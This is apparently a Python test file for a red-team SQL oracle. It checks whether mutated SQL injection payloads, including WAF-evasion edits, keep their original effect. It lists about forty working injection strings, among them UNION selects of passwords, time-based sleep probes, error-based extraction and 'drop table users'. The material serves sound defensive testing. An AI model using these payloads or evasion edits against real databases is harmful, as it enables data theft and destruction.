"""The SQL oracle runs both texts: it proves equals, finds disarmed ones out, and is silent on what does nothing."""

from __future__ import annotations

import csv
import gzip
from pathlib import Path
from random import Random

import pytest

from overproof.redteam.base import Edited, Mutators, mutated, one_step
from overproof.redteam.mutate.sql import MUTATORS
from overproof.redteam.mutate.waf_a_mole import WAF_A_MOLE
from overproof.redteam.oracle import sql as oracle
from overproof.redteam.oracle.sql import judge
from overproof.results.attack_cases import Step

PAYLOADS = [
    "1' or 1=1--",
    "1' or '1'='1",
    '1" or "a"="a',
    "admin'--",
    "admin' or 'x'='x'#",
    "1 or 1=1",
    "1) or (2=2",
    "1')) or (('a'='a",
    "1 and 3=4",
    "1' and sleep(5)--",
    "1 and elt(17=17,sleep(5))#",
    "1') or benchmark(5000000,md5(0x41424344)) and ('x' like 'x",
    "-8999' union all select 11,12,13--",
    '-8999" where 21=21 union all select 21,22#',
    "1%' union all select null,null,null,null#",
    "1 union select password,login,3 from users--",
    "-1') as zvlq where 3=3 or 5=6--",
    "1;waitfor delay '0:0:5'--",
    "1));waitfor delay '0:0:5' and ((7=7",
    "1');select pg_sleep(5)--",
    "1;select count(*) from generate_series(1,500)--",
    "1' and 7=cast((chr(113)||chr(122))||(select (case when (7=7) then 1 else 0 end))::text as numeric)--",
    "1' and 4=dbms_pipe.receive_message(chr(99)||chr(100),5)--",
    "1'||(select 'vsfg' from dual where 4=4 and sleep(3))||'",
    "1 and updatexml(3,concat(0x2e,(select version()),0x71),11)",
    "1' and extractvalue(1,concat(0x5c,(select password from users limit 1)))-- x",
    "1 order by 3--",
    "1 procedure analyse(extractvalue(5,concat(0x5c,0x71)),1)#",
    "1') rlike (select * from (select(sleep(5)))vwyq)#",
    "1' in boolean mode) or 3=3#",
    "AND 7=7 AND ('a'='a')",
    "UNION ALL SELECT 1,2,3,4",
    "ORDER BY 1,SLEEP(5)#",
    "1;if(3=4) select 7 else drop function zvlq--",
    "1;if(3=4) select (case when 1=2 then 5 else 6 end) else drop function zvlq--",
    "1;create or replace function sleep(int) returns int as 'x','sleep' language 'c' strict; select sleep(5)--",
    "1' and 4=convert(int,(select char(113)+char(122)))--",
    "1' and row(4,5)>(select count(*),floor(rand(0)*2) x from (select 1 union select 2)a group by x)#",
    "');begin dbms_lock.sleep(5); end--",
    "1;drop table users--",
    "1' or (select count(*) from sysusers as s1,sysusers as s2)>0--",
]


def chains(payloads: list[str], mutators: Mutators, most: int, seed: int) -> list[tuple[str, Edited]]:
    """Every payload with a chain of edits of its own."""
    random, made = Random(seed), []
    for text in payloads:
        edited = Edited(text)
        for _ in range(random.randint(1, most)):
            edited = mutated(edited, mutators, random) or edited
        made.append((text, edited))
    return made


@pytest.mark.parametrize("seed", range(4))
def test_chains_of_edits_do_what_the_original_does(seed: int) -> None:
    made = chains(PAYLOADS, MUTATORS, 6, seed)
    proofs = judge([(text, edited.text) for text, edited in made])
    assert not [
        (text, edited, proof) for (text, edited), proof in zip(made, proofs, strict=True) if proof.meaning == "changed"
    ]
    assert sum(proof.meaning == "proved" for proof in proofs) >= 0.95 * len(proofs)


def test_chains_of_waf_a_mole_are_mostly_proved() -> None:
    made = chains(PAYLOADS, WAF_A_MOLE, 4, 1)
    proofs = judge([(text, edited.text) for text, edited in made])
    assert sum(proof.meaning == "proved" for proof in proofs) >= 0.8 * len(proofs)


@pytest.mark.parametrize("name", sorted(MUTATORS))
def test_no_edit_alone_changes_a_payload(name: str) -> None:
    found = [(text, one_step(Edited(text), Step(name, seed), MUTATORS)) for text in PAYLOADS for seed in range(2)]
    pairs = [(text, edited.text) for text, edited in found if edited is not None]
    assert pairs or "escape" in name or name == "words in a comment"
    assert not [pair for pair, proof in zip(pairs, judge(pairs), strict=True) if proof.meaning == "changed"]


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("1' or 1=1--", "1' or 1=2--"),
        ("1' or 1=1--", "1'' or 1=1--"),
        ("1' or 1=1--", "1 or 1=1--"),
        ("1' or '1'='1", "1' or '1'='2"),
        ("1' and sleep(5)--", "1' and sleep(4)--"),
        ("1' and sleep(5)--", "1' and 'sleep(5)'--"),
        ("1' and sleep(5)#", "1'# and sleep(5)#"),
        ("-9' union all select 11,12,13--", "-9' union all select 11,12,14--"),
        ("-9' union all select 11,12,13--", "-9' union all select 11,12--"),
        ("1 union select password,login,3 from users--", "1 union select login,login,3 from users--"),
        ("1;waitfor delay '0:0:5'--", "1;waitfor delay '0:0:0'--"),
        ("1;drop table users--", "1;drop table items--"),
        ("1;select count(*) from sysusers--", "1;select count(*) from sysobjects--"),
        ("1');select benchmark(5,md5(0x41))#", "1'); benchmark(5,md5(0x41))#"),
        ("1') or ('2'='2", "1) or ('2'='2"),
        ("1 or 3 between 2 and 4--", "1 or 3 between 'a'='a' and 2 and 4--"),
    ],
)
def test_what_does_something_else_is_changed(original: str, edited: str) -> None:
    assert judge([(original, original)])[0].meaning == "proved"
    assert judge([(original, edited)])[0].meaning == "changed"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "shoes",
        "summer shoes",
        "42",
        "or",
        "'",
        "1' or",
        "select",
        "\0",
        "\ud800",
        "1' or \ud800=1--",
        "%27",
        "/* summer",
        "a(b" * 90,
    ],
)
def test_what_does_nothing_is_unproved(text: str) -> None:
    assert judge([(text, text), (text, f"{text} ")])[0].meaning == "unproved"


def test_a_hang_is_unproved() -> None:
    endless = "1;with recursive r(x) as (select 1 union all select x+1 from r) select count(*) from r--"
    (proof,) = judge([(endless, endless)])
    assert proof.meaning == "unproved"
    (proof,) = judge([("1;select 7--", endless)])
    assert proof.meaning == "unproved"
    assert "interrupted" in proof.how


@pytest.mark.parametrize(
    "text",
    [
        "1;attach 'x.db' as y--",
        "1;vacuum into 'x.db'--",
        "1;pragma writable_schema=1--",
        "1;select load_extension('x')--",
    ],
)
def test_nothing_reaches_a_file(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert judge([(text, text)])[0].meaning == "unproved"
    assert not list(tmp_path.iterdir())


def test_without_the_parser_what_sqlite_cannot_read_is_unproved(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(oracle, "find_spec", lambda name: None)
    foreign, own = judge([("1' and sleep(9)#", "1' and sleep(9)# x"), ("1' or 8=8--", "1' or 8=8-- x")])
    assert (foreign.meaning, own.meaning) == ("unproved", "proved")
    assert "sqlglot is not installed" in foreign.how


def test_training_rows_are_never_changed(shared_data: Path) -> None:
    with gzip.open(shared_data / "http" / "train.csv.gz", "rt", encoding="utf-8", newline="") as file:
        rows = [row["text"] for row in csv.DictReader(file) if row["family"] == "sqli"]
    made = chains(Random(14).sample(rows, 100), MUTATORS, 4, 2)
    proofs = judge([(text, edited.text) for text, edited in made])
    assert not [
        (text, edited, proof) for (text, edited), proof in zip(made, proofs, strict=True) if proof.meaning == "changed"
    ]
    assert sum(proof.meaning == "proved" for proof in proofs) >= 0.8 * len(proofs)
